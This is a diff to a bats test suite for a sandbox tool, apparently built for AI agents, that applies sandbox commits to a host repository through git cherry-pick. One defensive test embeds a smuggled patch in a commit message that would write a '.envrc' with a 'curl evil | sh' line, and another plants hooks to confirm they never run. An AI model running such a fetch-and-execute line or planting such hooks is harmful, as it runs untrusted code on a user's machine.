@@ -4,7 +4,9 @@
 # (litterbox exec, one `exec: ...` commit per call that changes files); its
 # effects are checked on the host with git: what lands on the user's branch,
 # in the index and in the work tree, what is refused before anything changes,
-# and that a conflict leaves git's own am state with the sandbox intact.
+# and that a conflict leaves git's own cherry-pick state with the sandbox
+# intact; an apply takes only what came after the previous one, and no hook
+# runs.
 
 # shellcheck disable=SC2154,SC2030,SC2031,SC2016 # bats sets status/output/lines/stderr; each test is a subshell; scripts in single quotes run in the container
 bats_require_minimum_version 1.5.0
@@ -33,9 +35,13 @@ agent() { lb_ok exec "$1" -- sh -c "$2" </dev/null >/dev/null; }
 # Subjects of the sandbox's commits, oldest first.
 box_subjects() { git log --reverse --format=%s "$BASE..$BRANCH"; }
 
-# no_am_in_progress: git has no am (or rebase) session in the repository.
-no_am_in_progress() {
-  [ ! -e "$(git rev-parse --git-path rebase-apply)" ] || fail "an am session is in progress"
+# no_pick_in_progress: git has no cherry-pick, am or rebase session in the
+# repository.
+no_pick_in_progress() {
+  local p
+  for p in rebase-apply CHERRY_PICK_HEAD sequencer; do
+    [ ! -e "$(git rev-parse --git-path "$p")" ] || fail "a git session ($p) is in progress"
+  done
 }
 
 # manifest DIR prints one line per entry below DIR: type, mode, path, and the
@@ -177,14 +183,14 @@ two_commits() {
   assert_equal "$(stat -c %a tool.sh)" 755
   assert_equal "$(git ls-tree HEAD -- tool.sh | cut -d' ' -f1)" 100755
   assert_equal "$(git status --porcelain)" ""
-  no_am_in_progress
+  no_pick_in_progress
 
   # The sandbox stays, its branch untouched.
   assert_equal "$(list_status "$BOX")" active
   assert_equal "$(git rev-parse "$BRANCH")" "$TIP"
 }
 
-@test "apply onto a HEAD that moved with non-conflicting commits keeps both sides' changes; -- args go to git am" {
+@test "apply onto a HEAD that moved with non-conflicting commits keeps both sides' changes; -- args go to git cherry-pick" {
   two_commits
   commit_file host/first.txt "host one"
   commit_file src/main.go "package main // host"
@@ -198,7 +204,7 @@ two_commits() {
   assert_equal "$(git rev-parse HEAD~2)" "$user"
   assert_equal "$(git log --reverse --format=%s "$user..HEAD")" "$(box_subjects)"
   assert_equal "$(git log --format='%an <%ae>' "$user..HEAD" | sort -u)" "$AUTHOR"
-  # --signoff reached git am: the user signs the commits off.
+  # --signoff reached git cherry-pick: the user signs the commits off.
   assert_equal "$(git log --format=%b "$user..HEAD" | grep -c '^Signed-off-by: Litterbox E2E <e2e@litterbox.invalid>$')" 2
   # Both sides' changes.
   assert_equal "$(cat host/first.txt)" "host one"
@@ -210,7 +216,7 @@ two_commits() {
   assert_equal "$(git rev-parse "$BRANCH")" "$TIP"
 }
 
-@test "a conflicting apply exits 1 with git am --continue/--abort instructions, leaves git's am state, and git am --abort restores the user's commit" {
+@test "a conflicting apply exits 1 with git cherry-pick --continue/--abort instructions, leaves git's cherry-pick state, and git cherry-pick --abort restores the user's commit" {
   create "$BOX"
   agent "$BOX" 'echo feature > feature.txt'
   agent "$BOX" 'printf "# sandbox title\n" > README.md'
@@ -222,13 +228,13 @@ two_commits() {
   refute_hang
   assert_failure 1
   refute_output --partial "Applied"
-  assert_stderr --regexp "[Gg]it am stopped on a conflict"
-  assert_stderr --partial "git am --continue"
-  assert_stderr --partial "git am --abort"
+  assert_stderr --regexp "[Gg]it cherry-pick stopped on a conflict"
+  assert_stderr --partial "git cherry-pick --continue"
+  assert_stderr --partial "git cherry-pick --abort"
 
-  # git's normal am state, conflict marked in the work tree.
+  # git's normal cherry-pick state, conflict marked in the work tree.
   run git status
-  assert_output --partial "You are in the middle of an am session"
+  assert_output --partial "git cherry-pick --abort"
   assert_line --regexp '^[[:space:]]+both modified: +README\.md$'
   grep -q '^<<<<<<<' README.md || fail "README.md has no conflict markers"
   # The user's commit is intact below the cleanly applied first commit; the
@@ -239,9 +245,9 @@ two_commits() {
   assert_equal "$(list_status "$BOX")" active
   assert_equal "$(in_box "$BOX" cat README.md)" "# sandbox title"
 
-  run git am --abort
+  run git cherry-pick --abort
   assert_success
-  no_am_in_progress
+  no_pick_in_progress
   assert_equal "$(git rev-parse HEAD)" "$user"
   assert_equal "$(cat README.md)" "# host title"
   assert_file_not_exists feature.txt
@@ -257,7 +263,7 @@ two_commits() {
   assert_line "Staged the combined change of 2 commit(s) from sandbox '$BOX'; review it and commit."
 
   assert_equal "$(git rev-parse HEAD)" "$BASE"
-  no_am_in_progress
+  no_pick_in_progress
   # Everything is staged, nothing else differs from the index.
   assert_equal "$(git diff --cached "$BASE")" "$(git diff "$BASE" "$TIP")"
   run git diff --cached
@@ -309,19 +315,19 @@ two_commits() {
     refute_hang
     assert_failure 1
     assert_output ""
-    assert_stderr --partial "git am needs a clean index"
+    assert_stderr --partial "apply needs a clean index"
     assert_stderr --regexp "commit or stash"
   done
   run --separate-stderr lb merge "$BOX"
   assert_failure 1
-  assert_stderr --partial "git am needs a clean index"
+  assert_stderr --partial "apply needs a clean index"
 
   # Nothing changed: HEAD, index, work tree, sandbox.
   assert_equal "$(git rev-parse HEAD)" "$BASE"
   assert_equal "$(git status --porcelain | LC_ALL=C sort)" "$(printf 'A  staged.txt\nM  src/main.go')"
   assert_equal "$(cat README.md)" "# demo"
   assert_file_not_exists tool.sh
-  no_am_in_progress
+  no_pick_in_progress
   assert_equal "$(list_status "$BOX")" active
   assert_equal "$(git rev-parse "$BRANCH")" "$TIP"
 }
@@ -338,7 +344,7 @@ two_commits() {
   refute_stderr --partial "tool.sh"
   assert_equal "$(git rev-parse HEAD)" "$BASE"
   assert_equal "$(cat README.md)" "$(printf '# demo\nmy unsaved edit')"
-  no_am_in_progress
+  no_pick_in_progress
 
   # An untracked file where the sandbox adds one is refused too (also by
   # --squash and merge), and so is a path with a space.
@@ -360,7 +366,7 @@ two_commits() {
   assert_equal "$(cat tool.sh)" mine
   assert_equal "$(git rev-parse HEAD)" "$BASE"
   assert_equal "$(git diff --cached)" ""
-  no_am_in_progress
+  no_pick_in_progress
   assert_equal "$(list_status "$BOX")" active
   assert_equal "$(git rev-parse "$BRANCH")" "$tip"
 }
@@ -379,8 +385,8 @@ two_commits() {
   assert_failure 1
   assert_stderr --partial "commit or stash"
   refute_stderr --partial "conflict"
-  # Refused before git am started: no am session to clean up.
-  no_am_in_progress
+  # Refused before git cherry-pick started: no session to clean up.
+  no_pick_in_progress
   assert_equal "$(git rev-parse HEAD)" "$BASE"
   assert_equal "$(cat café.txt)" "$(printf 'v1\nmy unsaved edit')"
 }
@@ -471,20 +477,118 @@ two_commits() {
   refute_hang
   assert_failure 1
   refute_output --partial "Deleted"
-  assert_stderr --partial "git am --continue"
-  assert_stderr --partial "git am --abort"
+  assert_stderr --partial "git cherry-pick --continue"
+  assert_stderr --partial "git cherry-pick --abort"
   assert_stderr --partial "not deleted"
   run git status
-  assert_output --partial "You are in the middle of an am session"
+  assert_output --partial "git cherry-pick --abort"
 
   assert_equal "$(list_status "$BOX")" active
   assert_equal "$(state_of "$(container_of "$BOX")")" running
   volume_exists "$(volume_of "$BOX")"
   assert_equal "$(git rev-parse "$BRANCH")" "$tip"
 
-  git am --abort
+  git cherry-pick --abort
   assert_equal "$(git rev-parse HEAD)" "$user"
   assert_equal "$(git status --porcelain)" ""
+}
+
+# ---------------------------------------------------------------------------
+# Incremental apply, messages as text, no hooks
+
+@test "apply, more work on the same file, apply again, merge: each commit lands once and cleanly" {
+  create "$BOX"
+  agent "$BOX" 'echo one > n.txt'
+  agent "$BOX" 'echo two >> n.txt'
+  run --separate-stderr lb apply "$BOX"
+  assert_success
+  assert_line "Applied 2 commit(s) from sandbox '$BOX'."
+  first=$(git rev-parse "$BRANCH")
+
+  agent "$BOX" 'echo three >> n.txt'
+  agent "$BOX" 'echo x > x.txt'
+  # diff still shows base..tip, and says on stderr what was applied.
+  run --separate-stderr lb diff "$BOX" -- --stat
+  assert_success
+  assert_output "$(git diff --stat "$BASE" "$BRANCH")"
+  assert_stderr --partial "was applied up to ${first:0:12}"
+  run --separate-stderr lb apply "$BOX"
+  refute_hang
+  assert_success
+  assert_line "Applied 2 commit(s) from sandbox '$BOX'."
+  no_pick_in_progress
+
+  agent "$BOX" 'echo four >> n.txt'
+  tip=$(git rev-parse "$BRANCH")
+  run --separate-stderr lb merge "$BOX"
+  refute_hang
+  assert_success
+  assert_line "Applied 1 commit(s) from sandbox '$BOX'."
+  assert_line "Deleted sandbox '$BOX' (its branch was at $tip)."
+  no_pick_in_progress
+
+  assert_equal "$(git rev-parse 'HEAD^{tree}')" "$(git rev-parse "$tip^{tree}")"
+  assert_equal "$(git log --reverse --format=%s "$BASE..HEAD")" "$(git log --reverse --format=%s "$BASE..$tip")"
+  assert_equal "$(git rev-list --count "$BASE..HEAD")" 5
+  assert_equal "$(cat n.txt)" "$(printf 'one\ntwo\nthree\nfour')"
+  assert_equal "$(git status --porcelain)" ""
+  assert_equal "$(git for-each-ref refs/litterbox/)" ""
+}
+
+@test "apply twice in a row: the second says nothing new and changes nothing" {
+  two_commits
+  lb_ok apply "$BOX" >/dev/null
+  head=$(git rev-parse HEAD)
+  for args in "" "--squash"; do
+    # shellcheck disable=SC2086 # no argument or one
+    run --separate-stderr lb apply "$BOX" $args
+    refute_hang
+    assert_success
+    assert_output "Nothing new in sandbox '$BOX' since it was applied at ${TIP:0:12}."
+  done
+  assert_equal "$(git rev-parse HEAD)" "$head"
+  assert_equal "$(git status --porcelain)" ""
+  run --separate-stderr lb log "$BOX" -- --oneline
+  assert_success
+  assert_equal "${#lines[@]}" 2
+  assert_stderr --partial "nothing new to apply"
+}
+
+@test "a patch written into a commit message reaches the host as text, never as files" {
+  create "$BOX"
+  patch=$'diff --git a/innocent.txt b/innocent.txt\nnew file mode 100644\n--- /dev/null\n+++ b/innocent.txt\n@@ -0,0 +1 @@\n+innocent\ndiff --git a/.envrc b/.envrc\nnew file mode 100644\n--- /dev/null\n+++ b/.envrc\n@@ -0,0 +1 @@\n+curl evil | sh\n'
+  agent "$BOX" 'echo "print(2)" > app.py'
+  lb_ok milestone "$BOX" -m "Fix the greeting"$'\n\n'"$patch" >/dev/null
+  assert_equal "$(lb_ok diff "$BOX" -- --name-only)" app.py
+
+  run --separate-stderr lb apply "$BOX"
+  assert_success
+  assert_equal "$(git diff --name-only "$BASE" HEAD)" app.py
+  assert_file_not_exists innocent.txt
+  assert_file_not_exists .envrc
+  git log -1 --format=%b HEAD | grep -qx 'diff --git a/.envrc b/.envrc' || fail "the message lost its text"
+}
+
+@test "merge runs none of the hooks the branch brings into a core.hooksPath inside the work tree" {
+  git config core.hooksPath .githooks
+  markers=$BATS_TEST_TMPDIR/markers
+  mkdir -p "$markers"
+  create "$BOX"
+  script='mkdir -p .githooks'
+  for h in pre-commit prepare-commit-msg commit-msg post-commit post-checkout post-rewrite post-applypatch reference-transaction post-index-change; do
+    script+=" && printf '#!/bin/sh\\ntouch $markers/$h\\n' > .githooks/$h && chmod 755 .githooks/$h"
+  done
+  agent "$BOX" "$script && echo one > n.txt"
+  agent "$BOX" 'echo two >> n.txt'
+
+  run --separate-stderr lb merge "$BOX" --yes
+  refute_hang
+  assert_success
+  assert_line "Applied 2 commit(s) from sandbox '$BOX'."
+  assert_equal "$(ls -A "$markers")" ""
+  # The hooks are real: the user's own commit runs them.
+  git commit -q --allow-empty -m probe
+  assert_file_exists "$markers/post-commit"
 }
 
 # ---------------------------------------------------------------------------
